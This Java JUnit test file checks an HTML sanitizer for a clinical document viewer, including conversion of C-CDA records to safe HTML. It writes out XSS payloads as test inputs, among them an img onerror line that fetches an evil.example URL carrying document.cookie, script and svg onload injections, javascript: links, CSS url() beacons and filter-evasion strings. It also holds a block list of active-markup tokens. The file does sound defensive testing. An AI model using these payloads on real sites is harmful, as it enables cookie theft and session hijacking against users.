package org.chartlens.ui.documents;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import org.junit.jupiter.api.Test;

/** security.md item 21: hostile narrative markup keeps its text and loses everything active. */
class HtmlSanitizerTest {
    static String clean(String html) {
        return HtmlSanitizer.sanitize(html);
    }

    static void assertInert(String out) {
        String l = out.toLowerCase(Locale.ROOT);
        for (String bad : new String[] {"<script", "onerror", "onload", "onclick", "javascript:", "<svg", "<img",
                "<iframe", "<object", "<embed", "<form", "<meta", "<link", "<style", "url(", "style=", "http-equiv", "src="}) {
            assertFalse(l.contains(bad), "must not contain " + bad + ": " + out);
        }
    }

    @Test
    void scriptIsRemovedTextKept() {
        String out = clean("<div><p>Blood pressure stable.</p><script>alert(document.cookie)</script></div>");
        assertInert(out);
        assertTrue(out.contains("Blood pressure stable."));
        assertFalse(out.contains("alert"));
    }

    @Test
    void imgOnerrorAndSvgOnloadAreRemoved() {
        assertInert(clean("<p>x<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\"></p>"));
        assertInert(clean("<svg onload=\"alert(1)\"><circle r=1 /></svg><p>after</p>"));
        assertTrue(clean("<svg onload=\"alert(1)\"></svg><p>after</p>").contains("after"));
    }

    @Test
    void javascriptLinksLoseTheirTargetAndHttpLinksAreInert() {
        String js = clean("<a href=\"javascript:alert(1)\">click</a>");
        assertInert(js);
        assertTrue(js.contains("click"));
        String http = clean("<a href=\"https://example.org/x\" onclick=\"x()\">site</a>");
        assertInert(http);
        assertFalse(http.contains("href"), http);
        assertTrue(http.contains("site"));
    }

    @Test
    void cssUrlAndStyleElementsAreRemoved() {
        String out = clean("<div style=\"background:url(http://evil.example/t.png)\">text</div>"
                + "<style>body{background:url('http://evil.example/b.png')}</style>"
                + "<link rel=stylesheet href=\"http://evil.example/s.css\">");
        assertInert(out);
        assertTrue(out.contains("text"));
    }

    @Test
    void metaRefreshFormsFramesAndObjectsAreRemoved() {
        String out = clean("<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\">"
                + "<iframe src=\"http://evil.example\"></iframe><form action=\"http://evil.example\"><input name=a></form>"
                + "<object data=\"x.swf\"></object><embed src=\"x\"><p>kept</p>");
        assertInert(out);
        assertTrue(out.contains("kept"));
    }

    @Test
    void clinicalStructureSurvives() {
        String out = clean("<div xmlns=\"http://www.w3.org/1999/xhtml\"><h3>Plan</h3><ul><li>Rest</li></ul>"
                + "<table><tr><th>Test</th><td colspan=\"2\">5.4</td></tr></table><b>bold</b></div>");
        assertTrue(out.contains("<h3>Plan</h3>"));
        assertTrue(out.contains("<li>Rest</li>"));
        assertTrue(out.contains("colspan=\"2\""));
        assertTrue(out.contains("<b>bold</b>"));
    }

    @Test
    void ccdaBecomesReadableSanitisedHtml() {
        String ccda = "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>Continuity of Care Document</title>"
                + "<component><structuredBody><component><section><title>Allergies</title>"
                + "<text><list><item>Penicillin <content>hives</content></item></list>"
                + "<paragraph onclick=\"x()\">No others</paragraph></text></section></component>"
                + "</structuredBody></component></ClinicalDocument>";
        String out = HtmlSanitizer.ccdaToHtml(ccda);
        assertInert(out);
        assertTrue(out.contains("<h2>Continuity of Care Document</h2>"), out);
        assertTrue(out.contains("<h3>Allergies</h3>"), out);
        assertTrue(out.contains("<li>Penicillin <span>hives</span></li>"), out);
        assertTrue(out.contains("<p>No others</p>"), out);
    }

    @Test
    void nullAndGarbageAreHarmless() {
        assertEquals("", clean(null));
        assertInert(clean("<<<img/src=x/onerror=alert(1)>>>"));
        assertInert(clean("<scr<script>ipt>alert(1)</script>"));
    }
}
